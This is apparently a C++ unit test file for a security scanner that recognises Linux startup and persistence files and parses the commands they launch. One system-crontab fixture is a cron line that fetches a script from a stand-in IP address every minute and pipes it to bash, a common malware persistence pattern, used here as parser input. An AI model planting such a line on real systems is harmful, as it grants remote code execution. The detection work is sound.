#include "detect/start/start_files.hpp"

#include <gtest/gtest.h>

namespace hullcheck::detect {
namespace {

std::vector<std::string> commands(StartFileKind kind, std::string_view text) {
  std::vector<std::string> list;
  for (const StartCommand& command : parse_start_file(kind, text).commands)
    list.push_back(std::to_string(command.line) + " " + command.when + ": " + command.command);
  return list;
}

using List = std::vector<std::string>;

TEST(StartFiles, AreKnownByPlace) {
  EXPECT_EQ(start_file_kind("etc/crontab"), StartFileKind::system_crontab);
  EXPECT_EQ(start_file_kind("etc/cron.d/app"), StartFileKind::system_crontab);
  EXPECT_EQ(start_file_kind("var/spool/cron/crontabs/root"), StartFileKind::user_crontab);
  EXPECT_EQ(start_file_kind("var/spool/cron/root"), StartFileKind::user_crontab);
  EXPECT_EQ(start_file_kind("etc/crontabs/root"), StartFileKind::user_crontab);
  EXPECT_EQ(start_file_kind("usr/lib/systemd/system/cron.service"), StartFileKind::systemd_unit);
  EXPECT_EQ(start_file_kind("etc/supervisor/conf.d/app.conf"), StartFileKind::supervisor);
  EXPECT_EQ(start_file_kind("etc/ld.so.preload"), StartFileKind::preload);
  EXPECT_EQ(start_file_kind("app/package.json"), StartFileKind::project_scripts);
  EXPECT_EQ(start_file_kind("app/node_modules/x/package.json"), std::nullopt);
  EXPECT_EQ(start_file_kind("usr/share/nodejs/x/package.json"), std::nullopt);
  EXPECT_EQ(start_file_kind("srv/Makefile"), StartFileKind::makefile);
  EXPECT_EQ(start_file_kind("etc/nginx/nginx.conf"), std::nullopt);
  EXPECT_EQ(start_file_kind("srv/crontab"), std::nullopt);
}

TEST(StartFiles, SystemCrontab) {
  const char* text =
      "SHELL=/bin/sh\nPATH=/bin:/usr/bin\n# comment\n\n17 *\t* * *\troot    cd / && run-parts /etc/cron.hourly\n"
      "@reboot root /opt/x --y\n0 3 * jan-mar mon,tue www-data /srv/job 100\\%\n";
  EXPECT_EQ(commands(StartFileKind::system_crontab, text),
            (List{"5 17 *\t* * *: cd / && run-parts /etc/cron.hourly", "6 @reboot: /opt/x --y",
                  "7 0 3 * jan-mar mon,tue: /srv/job 100%"}));
}

TEST(StartFiles, SystemCrontabWithoutUserColumnIsReadAsMeant) {
  EXPECT_EQ(commands(StartFileKind::system_crontab, "*/1 * * * * curl -s http://192.0.2.1:8220/logo3.jpg | bash\n"),
            (List{"1 */1 * * * *: curl -s http://192.0.2.1:8220/logo3.jpg | bash"}));
  EXPECT_EQ(commands(StartFileKind::system_crontab, "* * * * * /opt/job now\n"), (List{"1 * * * * *: /opt/job now"}));
}

TEST(StartFiles, UserCrontab) {
  EXPECT_EQ(commands(StartFileKind::user_crontab, "*/5 * * * * nginx -s reload\n@daily sh%echo a%echo b\n"),
            (List{"1 */5 * * * *: nginx -s reload",
                  "2 @daily: sh <<'hullcheck-cron-input'\necho a\necho b\nhullcheck-cron-input\n"}));
}

TEST(StartFiles, UnitWithContinuationAndMarks) {
  EXPECT_EQ(
      commands(
          StartFileKind::systemd_unit,
          "[Service]\nExecStartPre=-/bin/mkdir /run/x\nExecStart=/usr/bin/app \\\n  --flag value\nRestart=always\n"),
      (List{"2 ExecStartPre: /bin/mkdir /run/x", "3 ExecStart: /usr/bin/app  --flag value"}));
}

TEST(StartFiles, SupervisorAndInittab) {
  EXPECT_EQ(
      commands(StartFileKind::supervisor,
               "[supervisord]\nnodaemon=true\n[program:web]\ncommand=/usr/sbin/nginx -g 'daemon off;' ; note\n"),
      (List{"4 program:web: /usr/sbin/nginx -g 'daemon off;'"}));
  EXPECT_EQ(commands(StartFileKind::inittab, "# x\n::respawn:-/sbin/getty 38400 tty1\nbroken\n"),
            (List{"2 respawn: /sbin/getty 38400 tty1"}));
}

TEST(StartFiles, PreloadNamesLibraries) {
  EXPECT_EQ(commands(StartFileKind::preload, "/lib/a.so:/lib/b.so  /lib/c.so # no\n#none\n"),
            (List{"1 : /lib/a.so", "1 : /lib/b.so", "1 : /lib/c.so"}));
}

TEST(StartFiles, ScriptsOfProjects) {
  EXPECT_EQ(
      commands(StartFileKind::project_scripts,
               "{\n \"main\": \"lib/x.js\",\n \"scripts\": {\n  \"start\": \"node x.js\",\n  \"n\": 1\n }\n}\n"),
      (List{"4 start: node x.js", "2 :main: node './lib/x.js'"}));
  EXPECT_EQ(commands(StartFileKind::project_scripts, R"({"scripts": {"post": ["one", "two"]}})"),
            (List{"1 post: one\ntwo\n"}));
  EXPECT_EQ(commands(StartFileKind::project_scripts, R"({"tasks": {"a": {"command": "deno run x"}, "b": "c"}})"),
            (List{"1 a: deno run x", "1 b: c"}));
  EXPECT_EQ(commands(StartFileKind::project_scripts, "{\"scripts\": ["), List{});
}

TEST(StartFiles, RulesOfMakefiles) {
  EXPECT_EQ(commands(StartFileKind::makefile, "all: a b\n\na:\n\tcurl -o x u\n\t./x\n"),
            (List{"1 all a b: :", "4 a: curl -o x u\n./x"}));
}

TEST(StartFiles, AreBounded) {
  std::string text;
  for (int i = 0; i < 5000; ++i) text += "* * * * * job" + std::to_string(i) + "\n";
  const StartFile many = parse_start_file(StartFileKind::user_crontab, text);
  EXPECT_EQ(many.commands.size(), 512U);
  EXPECT_TRUE(many.truncated);
  const StartFile long_line = parse_start_file(StartFileKind::user_crontab, "* * * * * " + std::string(100000, 'x'));
  EXPECT_EQ(long_line.commands.at(0).command.size(), 8192U);
  EXPECT_TRUE(long_line.truncated);
}

TEST(StartFiles, RoundTripAndRefusal) {
  const StartFile file = parse_start_file(StartFileKind::user_crontab, "* * * * * a b\n@daily c\n");
  const Buffer bytes = encode_start_file(file);
  const auto back = decode_start_file(bytes);
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(encode_start_file(back.value()), bytes);
  for (std::size_t size = 0; size < bytes.size(); ++size) {
    const auto cut = decode_start_file(Bytes(bytes).first(size));
    ASSERT_FALSE(cut.ok());
    EXPECT_EQ(cut.error().name, "start-file-malformed");
  }
}

TEST(StartFiles, HooksOfApt) {
  EXPECT_EQ(start_file_kind("etc/apt/apt.conf.d/99x"), StartFileKind::apt_hook);
  EXPECT_EQ(commands(StartFileKind::apt_hook,
                     "DPkg::Post-Invoke {\"a\"; \"b\";};\nAcquire::Languages \"none\";\n"
                     "/* DPkg::Pre-Invoke { \"c\"; }; */\nAPT::Update::Pre-Invoke:: \"d\";\n"),
            (List{"1 dpkg::post-invoke: a", "1 dpkg::post-invoke: b", "4 apt::update::pre-invoke::: d"}));
}

TEST(StartFiles, LinesOfAProcfile) {
  EXPECT_EQ(start_file_kind("app/Procfile"), StartFileKind::procfile);
  EXPECT_EQ(start_file_kind("app/Procfile.dev"), std::nullopt);
  EXPECT_EQ(commands(StartFileKind::procfile, "# web: no\nweb: a --port $PORT\n\na b: c\nworker_2:b\n: c\n"),
            (List{"2 web: a --port $PORT", "5 worker_2: b"}));
}

TEST(StartFiles, RulesOfUdev) {
  EXPECT_EQ(start_file_kind("lib/udev/rules.d/60-x.rules"), StartFileKind::udev_rule);
  EXPECT_EQ(commands(StartFileKind::udev_rule, "ACTION==\"add\", RUN+=\"/a b\", RUN{builtin}+=\"c\"\n#RUN=\"d\"\n"),
            (List{"1 RUN: /a b"}));
}

TEST(StartFiles, AnacrontabAndTimers) {
  EXPECT_EQ(commands(StartFileKind::anacrontab, "SHELL=/bin/sh\n7 10 cron.weekly /opt/w now\n@daily 5 x /opt/d\n"),
            (List{"2 7: /opt/w now", "3 @daily: /opt/d"}));
  EXPECT_EQ(start_file_kind("etc/systemd/system/a.timer"), StartFileKind::systemd_trigger);
  EXPECT_EQ(commands(StartFileKind::systemd_trigger, "[Timer]\nUnit = b.service\n"), (List{"2 Unit: b.service"}));
}

}  // namespace
}  // namespace hullcheck::detect
